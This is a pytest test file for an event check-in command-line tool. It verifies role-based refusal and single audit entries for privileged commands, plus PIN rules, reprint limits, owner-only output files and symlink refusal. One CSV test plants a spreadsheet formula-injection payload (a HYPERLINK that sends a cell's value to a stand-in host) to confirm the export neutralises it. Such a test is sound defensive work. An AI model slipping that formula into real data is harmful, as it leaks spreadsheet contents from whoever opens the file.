"""Policy as data, tested as data: every command declares what it needs (cli._policy, roles.REQUIRED), and
every privileged one is refused without the role, done with it, and leaves exactly one audit entry."""

from __future__ import annotations

import sqlite3
from pathlib import Path

import pytest

from checkin_desk.cli import _policy as policy
from checkin_desk.cli import build_parser, command_parsers, main
from checkin_desk.storage.store import Store
from checkin_desk.trust import roles

PINS = {"olga": "4829", "sam": "739183", "ada": "739182"}  # operator, supervisor, admin
ROLE_OF = {"olga": roles.Role.OPERATOR, "sam": roles.Role.SUPERVISOR, "ada": roles.Role.ADMIN}
LIST = "code,first_name,last_name,category,status\nSCE-9001,Ines,Alaoui,visitor,valid\n"


def test_every_command_declares_what_it_needs():
    commands = {name for name, _parser in command_parsers(build_parser())}
    assert commands - set(policy.COMMANDS) == set(), "commands without a declared role"
    assert set(policy.COMMANDS) - commands == set(), "roles declared for commands that do not exist"
    declared = set(policy.COMMANDS.values()) | set(policy.WHEN.values())
    assert declared - {policy.OPEN, policy.HUB_ADMIN} <= set(roles.REQUIRED)


def test_a_command_without_a_declared_role_is_refused(monkeypatch, tmp_path, capsys):
    monkeypatch.delitem(policy.COMMANDS, "counts")
    assert main(["--db", str(tmp_path / "e.sqlite"), "counts"]) == 1
    assert "refused until its role is declared" in capsys.readouterr().err


@pytest.fixture(scope="module")
def event_template(tmp_path_factory):
    """A demo event with three staff members, a printer, a key pair, a printed badge and a blocked pass."""
    folder = tmp_path_factory.mktemp("policy")
    db = folder / "event.sqlite"
    assert main(["--db", str(db), "demo", "--attendees", "40", "--seed", "3"]) == 0
    store = Store.open(db)
    roles.add_staff(store, "ada", roles.Role.ADMIN, PINS["ada"])
    ada = roles.Staff("ada", roles.Role.ADMIN)
    roles.add_staff(store, "sam", roles.Role.SUPERVISOR, PINS["sam"], by=ada)
    roles.add_staff(store, "olga", roles.Role.OPERATOR, PINS["olga"], by=ada)
    roles.add_staff(store, "omar", roles.Role.OPERATOR, "5938", by=ada)
    codes = [a.code for a in store.attendees()]
    store.conn.execute("UPDATE attendees SET status = 'blocked' WHERE code = ?", (codes[1],))
    store.close()
    return db, codes


def _copy(template: Path, db: Path) -> None:
    """The template event, whole: its write-ahead log included (a file copy would leave that behind)."""
    source, target = sqlite3.connect(template), sqlite3.connect(db)
    try:
        source.backup(target)
    finally:
        source.close()
        target.close()


def _run(argv: list[str], who: str | None, monkeypatch) -> int:
    if who:
        monkeypatch.setenv("CHECKIN_DESK_PIN", PINS[who])
        argv = [*argv, "--as", who]
    monkeypatch.setenv("CHECKIN_DESK_NEW_PIN", "918273")
    return main(argv)


def _audit(db: Path) -> list[tuple[str, str]]:
    conn = sqlite3.connect(db)
    try:
        return conn.execute("SELECT action, operator FROM audit_log ORDER BY id").fetchall()
    finally:
        conn.close()


# (name, the action's key in roles.REQUIRED, argv after --db; "{...}" filled per test, setup before it)
CASES = [
    ("categories rename", "categories", ["categories", "rename", "visitor", "VISITEURS"]),
    ("categories colour", "categories", ["categories", "colour", "visitor", "#123456"]),
    ("categories merge", "categories", ["categories", "merge", "speaker", "--into", "visitor"]),
    ("import", "import", ["import", "{list}"]),
    ("hub connect", "settings", ["hub", "connect", "--no-check", "host=127.0.0.1 port=1 dbname=x user=desk"]),
    ("hub disconnect", "settings", ["hub", "disconnect"]),
    ("printers add", "settings", ["printers", "add", "pdf2", "--pdf-folder", "{dir}"]),
    ("printers remove", "settings", ["printers", "remove", "pdf1"]),
    ("print --reason", "reprint", ["print", "{printed}", "--reason", "badge abîmé"]),
    ("print --override", "override", ["print", "{blocked}", "--override", "--reason", "vu avec la sécurité"]),
    ("report attendees", "export_attendees", ["report", "attendees", "--out", "{dir}/list.csv"]),
    ("export-attendees", "export_attendees", ["export-attendees", "--out", "{dir}/list.csv"]),
    ("badges batch", "export_attendees", ["badges", "batch", "--out", "{dir}/all.pdf"]),
    ("keys init", "keys", ["keys", "init", "--key-file", "{dir}/new.pem"]),
    ("keys import-public", "keys", ["keys", "import-public", "{public}"]),
    ("codes sign", "keys", ["codes", "sign", "{list}", "--out", "{dir}/signed.csv"]),
    ("staff add", "staff", ["staff", "add", "newbie", "--role", "operator"]),
    ("staff remove", "staff", ["staff", "remove", "omar", "--yes"]),
    ("reissue", "reissue_pass", ["reissue", "{printed}", "--reason", "perdu"]),
    ("purge", "purge", ["purge", "--event", "--yes", "--force"]),
    ("demo --replace", "demo_replace", ["demo", "--replace", "--yes", "--attendees", "5"]),
]
COVERED = {
    next(" ".join(argv[:n]) for n in (2, 1) if " ".join(argv[:n]) in policy.COMMANDS)
    for _c, _a, argv in CASES
} | {"staff set-pin"}


def test_the_cases_cover_every_privileged_command():
    assert policy.privileged_commands() <= COVERED


def _prepare(db: Path, codes: list[str], tmp_path: Path, case: str) -> dict[str, str]:
    (tmp_path / "out").mkdir()
    (tmp_path / "list.csv").write_text(LIST, encoding="utf-8")
    store = Store.open(db)
    try:
        store.set_setting("desk_name", "desk-1")
        from checkin_desk.printing import PrinterConfig, add_printer, create_job

        add_printer(store, PrinterConfig("pdf1", "pdf-folder", str(tmp_path / "out")))
        create_job(store, codes[0], "desk-1")  # a badge queued before: another is a reprint
        if case == "hub disconnect":
            from checkin_desk.sync import credentials

            credentials.connect_store(store, "host=127.0.0.1 port=1 dbname=x user=desk")
    finally:
        store.close()
    public = ""
    if case == "keys import-public":
        other = tmp_path / "other.sqlite"
        assert main(["--db", str(other), "demo", "--attendees", "1"]) == 0
        assert main(["--db", str(other), "keys", "init", "--key-file", str(tmp_path / "other.pem")]) == 0
        public = str(tmp_path / "public.txt")
        assert main(["--db", str(other), "keys", "export-public", "--out", public]) == 0
    return {
        "list": str(tmp_path / "list.csv"),
        "dir": str(tmp_path / "out"),
        "printed": codes[0],
        "blocked": codes[1],
        "public": public,
    }


@pytest.mark.parametrize("who", [None, "olga", "sam", "ada"])
@pytest.mark.parametrize(("case", "action", "argv"), CASES, ids=[c[0] for c in CASES])
def test_each_privileged_command_needs_its_role_and_leaves_one_audit_entry(
    event_template, tmp_path, monkeypatch, case, action, argv, who
):
    template, codes = event_template
    db = tmp_path / "event.sqlite"
    _copy(template, db)
    values = _prepare(db, codes, tmp_path, case)
    if case not in ("keys init", "keys import-public"):
        assert _run(["--db", str(db), "keys", "init"], "ada", monkeypatch) == 0
    before = _audit(db)
    argv = ["--db", str(db), *(a.format(**values) for a in argv)]
    status = _run(argv, who, monkeypatch)
    after = _audit(db)
    allowed = who is not None and ROLE_OF[who] >= roles.REQUIRED[action]
    if not allowed:
        assert status in (1, 2), f"{case} by {who or 'nobody'} was not refused"
        assert after == before, f"{case} refused, yet the audit log changed"
        return
    assert status == 0, f"{case} by {who} failed"
    if case == "demo --replace":  # the old log went with its file; the new one says what was replaced
        assert [a for a, _o in after] == ["demo_replace"] and after[0][1] == who
        return
    new = after[len(before) :]
    assert after[: len(before)] == before
    assert len(new) == 1, f"{case}: {new}"
    assert new[0][1] == who


@pytest.mark.parametrize("who", [None, "olga", "sam", "ada"])
def test_everyone_may_change_their_own_pin_and_only_an_admin_anyone_elses(
    event_template, tmp_path, monkeypatch, who
):
    template, _codes = event_template
    db = tmp_path / "event.sqlite"
    _copy(template, db)
    other = _run(["--db", str(db), "staff", "set-pin", "omar"], who, monkeypatch)
    assert other == (0 if who == "ada" else 1 if who else 2)
    own = _run(["--db", str(db), "staff", "set-pin", who or "olga"], who, monkeypatch)
    assert own == (0 if who else 2)


@pytest.fixture
def printing_event(event_template, tmp_path):
    """A copy of the template event with a printer and one badge queued (codes[0]); codes[1] is blocked."""
    template, codes = event_template
    db = tmp_path / "event.sqlite"
    _copy(template, db)
    _prepare(db, codes, tmp_path, "print")
    return db, codes


def test_print_never_makes_a_second_first_badge_nor_a_refused_pass_badge(printing_event, monkeypatch):
    db, codes = printing_event
    fresh = codes[2]
    assert _run(["--db", str(db), "print", fresh], None, monkeypatch) == 0
    assert _run(["--db", str(db), "print", fresh], None, monkeypatch) == 2  # queued or printed: a reprint
    assert _run(["--db", str(db), "print", codes[1]], None, monkeypatch) == 1  # blocked
    assert (
        _run(["--db", str(db), "print", codes[1]], "ada", monkeypatch) == 1
    )  # still blocked without --override
    conn = sqlite3.connect(db)
    jobs = conn.execute("SELECT attendee_code, reprint FROM print_jobs ORDER BY id").fetchall()
    conn.close()
    assert jobs == [(codes[0], 0), (fresh, 0)]


def test_counts_by_desk_as_csv_never_carry_a_formula(tmp_path, capsys):
    db = tmp_path / "event.sqlite"
    assert main(["--db", str(db), "demo", "--attendees", "5", "--seed", "1"]) == 0
    code = next(Store.open(db).attendees("status = 'valid'")).code
    assert main(["--db", str(db), "scan", code]) == 0
    # This desk refuses such a name; another desk's scans arrive through the hub with theirs.
    conn = sqlite3.connect(db)
    with conn:
        conn.execute("""UPDATE scans SET desk = '=HYPERLINK("http://x/?"&A2,"ok")'""")
    conn.close()
    capsys.readouterr()
    assert main(["--db", str(db), "counts", "--by", "desk", "--format", "csv"]) == 0
    rows = capsys.readouterr().out.splitlines()
    assert rows[1].startswith("'=HYPERLINK") or rows[1].startswith("\"'=HYPERLINK")


@pytest.mark.parametrize(
    "argv",
    [
        ["report", "attendees", "--out", "{dir}/a.csv"],
        ["report", "--format", "pdf", "--out", "{dir}/a.pdf"],
        ["badge", "{code}", "--out", "{dir}/a.pdf"],
        ["badge", "{code}", "--out", "{dir}/a.png"],
        ["badges", "batch", "--out", "{dir}/a.pdf"],
        ["export-attendees", "--out", "{dir}/a.csv"],
    ],
    ids=lambda a: " ".join(a[:2]),
)
def test_files_with_names_are_owner_only_whatever_the_umask(tmp_path, argv):
    import os

    db = tmp_path / "event.sqlite"
    assert main(["--db", str(db), "demo", "--attendees", "5", "--seed", "1"]) == 0
    code = next(Store.open(db).attendees()).code
    out = tmp_path / "out"
    out.mkdir()
    old = os.umask(0o022)
    try:
        assert main(["--db", str(db), *(a.format(dir=out, code=code) for a in argv)]) == 0
    finally:
        os.umask(old)
    (written,) = list(out.iterdir())
    assert written.stat().st_mode & 0o077 == 0, oct(written.stat().st_mode)


def test_a_badge_printed_by_hand_is_not_printed_again_at_the_first_scan(printing_event, monkeypatch):
    db, codes = printing_event
    fresh = codes[2]
    assert _run(["--db", str(db), "print", fresh], None, monkeypatch) == 0
    assert _run(["--db", str(db), "scan", fresh], None, monkeypatch) == 0
    conn = sqlite3.connect(db)
    jobs = conn.execute("SELECT count(*) FROM print_jobs WHERE attendee_code = ?", (fresh,)).fetchone()[0]
    badge = conn.execute("SELECT badge FROM scans WHERE code = ?", (fresh,)).fetchone()[0]
    conn.close()
    assert (jobs, badge) == (1, 0)


def test_a_file_with_names_is_never_written_through_a_symbolic_link(tmp_path, capsys):
    db = tmp_path / "event.sqlite"
    assert main(["--db", str(db), "demo", "--attendees", "5", "--seed", "1"]) == 0
    target = tmp_path / "notes.txt"
    target.write_text("mine\n")
    (tmp_path / "list.csv").symlink_to(target)
    assert main(["--db", str(db), "export-attendees", "--out", str(tmp_path / "list.csv")]) == 1
    assert "symbolic link" in capsys.readouterr().err
    assert target.read_text() == "mine\n"
